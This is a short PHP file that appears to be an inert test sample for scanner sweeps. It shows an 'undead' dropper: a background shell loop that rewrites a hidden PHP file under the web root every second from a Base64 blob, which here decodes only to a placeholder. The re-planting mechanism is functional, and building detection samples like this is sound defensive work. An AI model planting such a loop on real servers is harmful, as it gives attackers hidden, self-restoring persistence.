<?php
// sweep sample (inert): an "undead" dropper that works from the shell. The shell decodes a Base64
// blob into a hidden PHP file under the web root, again and again, so that deleting the file does
// not remove it. The blob here only decodes to a placeholder.
set_time_limit(0);
$blob = 'PD9waHAgLyogcGxhY2Vob2xkZXIgKi8gPz4=';
system('while true; do echo "' . $blob . '" | base64 -d > /var/www/html/.cache-idx.php; sleep 1; done &');
